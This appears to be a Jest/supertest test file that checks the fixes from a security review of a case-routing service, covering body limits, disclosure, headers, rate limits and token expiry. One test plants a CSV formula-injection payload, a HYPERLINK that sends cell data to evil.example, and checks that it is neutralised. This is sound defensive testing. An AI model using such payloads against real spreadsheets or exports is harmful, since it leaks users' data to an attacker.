/**
 * Issue #21 (security review), the findings of lane sec-a, each test named after its finding, on PGlite and
 * PostgreSQL: bodies refused from Content-Length, the admin body reader, the routing simulation's disclosure, CSV
 * formula injection, territory changes, superseded forwards, report regeneration, headers, token expiry.
 */
import { request as httpRequest, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import request from 'supertest';
import { loadConfig } from '../../src/config/env';
import { startService, type Service } from '../../src/app/service';
import { FixedClock } from '../../src/shared/clock';
import { silentLogger } from '../../src/shared/logger';
import { storageDrivers, type TestDatabase } from '../helpers/db';
import { makeEnvelope } from '../helpers/envelopes';
import { TEST_TOKEN } from '../helpers/service-env';

const auth = { Authorization: `Bearer ${TEST_TOKEN}` };
const DAY = 86_400_000;

describe.each(storageDrivers())('security review findings (sec-a) on %s', (_name, open) => {
  let tdb: TestDatabase;
  let svc: Service;
  let server: Server;
  let port: number;
  const clock = new FixedClock('2026-11-20T10:00:00Z');

  const token = async (body: Record<string, unknown>) => {
    const res = await request(svc.app).post('/api/admin/tokens').set(auth).send(body).expect(201);
    return { id: res.body.id as string, headers: { Authorization: `Bearer ${res.body.token as string}` }, body: res.body as Record<string, unknown> };
  };
  const send = async (caseId: string) => {
    await request(svc.app).post('/api/envelopes').set(auth).set('Content-Type', 'application/json').send(JSON.stringify(makeEnvelope({ caseId }))).expect(202);
    await svc.routingWorker.drain();
  };

  beforeAll(async () => {
    tdb = await open();
    svc = await startService(loadConfig({ BOOTSTRAP_TOKEN: TEST_TOKEN, REPORT_REGENERATE_MIN_SECONDS: '300' }), { db: tdb.db, clock, logger: silentLogger(), listen: false, workers: false });
    server = await new Promise<Server>((resolve) => {
      const s = svc.app.listen(0, '127.0.0.1', () => resolve(s));
    });
    port = (server.address() as AddressInfo).port;
  }, 180_000);
  afterAll(async () => {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
    await svc.stop();
    await tdb.close();
  });

  it('POST /api/envelopes declaring 100 MiB is answered 413 at once, without its body being read', async () => {
    const started = performance.now();
    const answer = await new Promise<{ status: number; body: string; sent: number }>((resolve, reject) => {
      const req = httpRequest({ port, host: '127.0.0.1', method: 'POST', path: '/api/envelopes', headers: { ...auth, 'content-type': 'application/json', 'content-length': String(100 * 1024 * 1024) } });
      let sent = 0;
      req.on('response', (res) => {
        let body = '';
        res.on('data', (c) => { body += String(c); });
        res.on('end', () => { resolve({ status: res.statusCode ?? 0, body, sent }); req.destroy(); });
      });
      req.on('error', reject);
      // 64 KiB of the 100 MiB, then nothing more: only an answer that does not wait for the body arrives.
      req.write(Buffer.alloc(64 * 1024, 0x20), () => { sent += 64 * 1024; });
    });
    expect(answer.status).toBe(413);
    expect(JSON.parse(answer.body)).toMatchObject({ error: { code: 'VAL_TOO_LARGE' }, quarantineId: expect.any(String) });
    expect(performance.now() - started).toBeLessThan(5000);
  });

  it.each([
    ['an unsupported charset', { 'Content-Type': 'application/json; charset=iso-8859-1' }],
    ['a Content-Encoding', { 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' }],
  ])('POST /api/admin/accounts with %s goes through the shared body reader: 415, not 500', async (_what, headers) => {
    const res = await request(svc.app).post('/api/admin/accounts').set(auth).set(headers).send(JSON.stringify({ username: 'enc-test', role: 'operator' }));
    expect(res.status).toBe(415);
    expect(res.body.error.code).toBe('VAL_UNSUPPORTED_ENCODING');
  });

  it('POST /api/routing/simulate reveals no case affinity to a principal who may not read cases, takes 1 MiB at most, is not cached', async () => {
    await send('77001');
    const routed = (await request(svc.app).get('/api/cases/77001').set(auth).expect(200)).body as { institutionId?: string; forwards?: Array<{ institutionId: string }> };
    const first = routed.forwards?.[0]?.institutionId ?? routed.institutionId;
    const elsewhere = first === 'FR:CARSATRA1' ? 'FR:CNAVIDF01' : 'FR:CARSATRA1';
    await request(svc.app).post('/api/cases/77001/reassign').set(auth).send({ institutionId: elsewhere, note: 'test' }).expect(200);
    const probe = makeEnvelope({ caseId: '77001' });
    const operator = await request(svc.app).post('/api/routing/simulate').set(auth).send(probe).expect(200);
    expect([operator.body.ruleId, operator.body.institutionId]).toEqual(['AFFINITY', elsewhere]);
    expect(operator.headers['cache-control']).toBe('no-store');
    const intake = await token({ role: 'intake' });
    const stranger = await request(svc.app).post('/api/routing/simulate').set(intake.headers).send(probe).expect(200);
    expect(stranger.body.ruleId).not.toBe('AFFINITY');
    expect(stranger.body.institutionId).not.toBe(elsewhere);
    const big = await request(svc.app).post('/api/routing/simulate').set(intake.headers).set('Content-Type', 'application/json').send(JSON.stringify({ ...probe, pad: 'x'.repeat(1100 * 1024) }));
    expect([big.status, big.body.error?.code]).toEqual([413, 'VAL_TOO_LARGE']);
  });

  it('report CSV: an institution named =HYPERLINK(…) is written as text, not as a formula (OWASP)', async () => {
    await send('77002');
    const view = (await request(svc.app).get('/api/cases/77002').set(auth).expect(200)).body as { forwards?: Array<{ institutionId: string }> };
    const target = view.forwards![0].institutionId;
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await request(svc.app).put(`/api/institutions/${target}`).set(auth).send({ institution: { ...(await request(svc.app).get(`/api/institutions?q=${encodeURIComponent(target)}`).set(auth)).body.items[0], name: evil }, reason: 'test' }).expect(201);
    await svc.reports.service.generate({ kind: 'monthly', period: '2026-11', by: 'operator:test', trigger: 'on-demand' });
    const csv = (await request(svc.app).get('/api/reports/monthly/2026-11?format=csv').set(auth).expect(200)).text;
    const cells = csv.split(/\r\n/).flatMap((l) => l.split(','));
    expect(csv).toContain("'=HYPERLINK");
    expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('report regeneration is spaced out per period: a second one within REPORT_REGENERATE_MIN_SECONDS is 429 with Retry-After', async () => {
    clock.advance(DAY);
    const first = await request(svc.app).post('/api/reports/monthly/2026-10').set(auth);
    expect(first.status).toBe(201);
    const again = await request(svc.app).post('/api/reports/monthly/2026-10').set(auth);
    expect([again.status, again.body.error?.code, again.headers['retry-after']]).toEqual([429, 'RPT_REGENERATE_TOO_SOON', '300']);
    clock.advance(301_000);
    expect((await request(svc.app).post('/api/reports/monthly/2026-10').set(auth)).status).toBe(201);
  });

  it('PUT /api/territories/:dep with only a reason is refused; a change of one fund keeps the others', async () => {
    const before = ((await request(svc.app).get('/api/territories?limit=500').set(auth)).body.items as Array<Record<string, unknown>>).find((t) => t.departement === '69')!;
    const onlyReason = await request(svc.app).put('/api/territories/69').set(auth).send({ reason: 'blank it' });
    expect([onlyReason.status, onlyReason.body.error.code, onlyReason.body.error.details[0].path]).toEqual([422, 'REQ_INVALID_BODY', '/territory']);
    await request(svc.app).put('/api/territories/69').set(auth).send({ territory: { note: 'checked' }, reason: 'note only' }).expect(201);
    const after = ((await request(svc.app).get('/api/territories?limit=500').set(auth)).body.items as Array<Record<string, unknown>>).find((t) => t.departement === '69')!;
    expect(after).toEqual({ ...before, note: 'checked' });
  });

  it('an institution no longer reads the SED of a forward superseded by a reassignment (pull API); operators still do', async () => {
    await send('77003');
    const view = (await request(svc.app).get('/api/cases/77003').set(auth).expect(200)).body as { forwards: Array<{ institutionId: string }> };
    const first = view.forwards[0].institutionId;
    const institution = await token({ role: 'institution', institutionId: first });
    const mine = async (h: Record<string, string>) => ((await request(svc.app).get(`/api/institutions/${first}/forwards?limit=500`).set(h).expect(200)).body.items as Array<{ caseId: string; status: string; sed: unknown }>).filter((f) => f.caseId === '77003');
    expect((await mine(institution.headers))[0].sed).not.toBeNull();
    await request(svc.app).post('/api/cases/77003/reassign').set(auth).send({ institutionId: first === 'FR:CARSATRA1' ? 'FR:CNAVIDF01' : 'FR:CARSATRA1', note: 'test' }).expect(200);
    const superseded = await mine(institution.headers);
    expect(superseded.map((f) => [f.status, f.sed])).toEqual([['superseded', null]]);
    expect((await mine(auth))[0].sed).not.toBeNull();
  });

  it('headers: no HSTS over plain HTTP, X-Frame-Options DENY beside frame-ancestors none, no-store on cases and tickets', async () => {
    const health = await request(svc.app).get('/healthz');
    expect(health.headers['strict-transport-security']).toBeUndefined();
    expect(health.headers['x-frame-options']).toBe('DENY');
    expect(health.headers['content-security-policy']).toContain("frame-ancestors 'none'");
    for (const url of ['/api/cases?limit=1', '/api/tickets?limit=1', '/api/triage?limit=1']) {
      expect([url, (await request(svc.app).get(url).set(auth)).headers['cache-control']]).toEqual([url, 'no-store']);
    }
  });

  it('machine tokens expire (401 AUTH_TOKEN_EXPIRED); the list shows expiry, state and a help-desk token\'s country', async () => {
    const shortLived = await token({ role: 'intake', expiresInDays: 2 });
    const desk = await token({ role: 'helpdesk', country: 'DE' });
    expect(Date.parse(desk.body.expiresAt as string) - clock.now().getTime()).toBe(365 * DAY);
    expect((await request(svc.app).get('/api/rules').set(shortLived.headers)).status).toBe(200);
    clock.advance(2 * DAY);
    const expired = await request(svc.app).get('/api/rules').set(shortLived.headers);
    expect([expired.status, expired.body.error.code]).toEqual([401, 'AUTH_TOKEN_EXPIRED']);
    const list = (await request(svc.app).get('/api/admin/tokens?limit=500').set(auth).expect(200)).body.items as Array<Record<string, unknown>>;
    expect(list.find((t) => t.id === shortLived.id)).toMatchObject({ state: 'expired', expiresAt: expect.any(String) });
    expect(list.find((t) => t.id === desk.id)).toMatchObject({ state: 'active', country: 'DE', role: 'helpdesk' });
    const bad = await request(svc.app).post('/api/admin/tokens').set(auth).send({ role: 'intake', expiresInDays: 0 });
    expect([bad.status, bad.body.error.details[0].path]).toEqual([422, '/expiresInDays']);
  });
});
